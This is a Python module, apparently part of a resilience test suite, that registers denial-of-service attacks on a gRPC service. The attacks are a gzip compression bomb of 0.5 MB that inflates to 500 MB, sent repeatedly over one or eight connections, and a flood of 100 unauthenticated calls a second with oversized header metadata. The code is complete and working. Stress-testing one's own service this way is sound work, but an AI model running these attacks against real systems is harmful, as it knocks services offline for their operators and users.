"""Messages that are small on the wire (compression bombs), and calls without a credential."""
import struct
import threading
import time
import zlib

import http2
from attacks.registry import attack
from http2 import Connection, grpc_fields, message

BOMB_BYTES, BLOCK_BYTES = 500 << 20, 1 << 20
PATHS = ("/distro.v1.AggregatorService/Join", "/grpc.health.v1.Health/Check", "/distro.v1.AggregatorService/UploadUpdate",
         "/distro.v1.AdminService/CreateRun", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
CALLS_PER_SECOND = 100


def bomb():
    """Half a megabyte that inflates to 500 MB: the same block of zeros, packed once, over and over."""
    zeros, packer, sum_of_all = bytes(BLOCK_BYTES), zlib.compressobj(9, zlib.DEFLATED, -15), 0
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(BOMB_BYTES // BLOCK_BYTES):
        sum_of_all = zlib.crc32(zeros, sum_of_all)
    head, end = b"\x1f\x8b\x08" + bytes(6) + b"\xff", b"\x03\x00"
    return head + block * (BOMB_BYTES // BLOCK_BYTES) + end + struct.pack("<II", sum_of_all, BOMB_BYTES)


def thrown(_, told):
    return [] if told["statuses"] else ["no bomb was thrown"]


def throw(target, number, data, told):
    """Bombs one after another over one connection, a new one when it is closed."""
    connection, thrown = None, 0
    while target.goes_on():
        try:
            connection = connection or Connection(target.grpc, target.ca, target.source(number))
            stream = connection.open_stream(grpc_fields(PATHS[thrown % len(PATHS)], extra=[("grpc-encoding", "gzip")]))
            connection.write(stream, data, seconds=2)
            status = connection.grpc_status(stream, 5)
            told[str(status)] = told.get(str(status), 0) + 1
        except OSError:
            told["closed"] = told.get("closed", 0) + 1
            connection = None
        thrown += 1
        time.sleep(0.5)


def throw_from(target, connections):
    told, data = {}, message(bomb(), compressed=True)
    threads = [threading.Thread(target=throw, args=(target, number, data, told)) for number in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"statuses": told}


@attack("bomb", "gzip: 0.5 MB that inflate to 500 MB, on five rpcs, one connection", in_all=False, check=thrown)
def one_bomb(target):
    return throw_from(target, 1)


@attack("bombs", "`bomb` over eight connections", check=thrown)
def bombs(target):
    return throw_from(target, 8)


@attack("big_headers", f"{CALLS_PER_SECOND} calls a second without a credential, metadata of 8 KB and of 60 KB each")
def big_headers(target):
    connection, made, closed, begin = None, 0, 0, time.monotonic()
    large = [http2.literal(b"x-filler", b"a" * size) for size in (7000, 15000, 15000, 15000)]
    while target.goes_on():
        try:
            connection = connection or Connection(target.grpc, target.ca, target.source(made))
            stream, connection._next_stream = connection._next_stream, connection._next_stream + 2
            fields = http2.block(grpc_fields(PATHS[0])) + large[0] + b"".join(large[1:] if made % 2 else ())
            first, rest = fields[:16000], [fields[at:at + 16000] for at in range(16000, len(fields), 16000)]
            frames = http2.frame(http2.HEADERS, http2.END_STREAM | (0 if rest else http2.END_HEADERS), stream, first)
            for part in rest:
                frames += http2.frame(http2.CONTINUATION, http2.END_HEADERS if part is rest[-1] else 0, stream, part)
            connection.send(frames)
            connection.read(0)
        except OSError:
            connection, closed = None, closed + 1
            time.sleep(0.05)
        made += 1
        time.sleep(max(0.0, begin + made / CALLS_PER_SECOND - time.monotonic()))
    return {"calls": made, "connections_closed": closed}
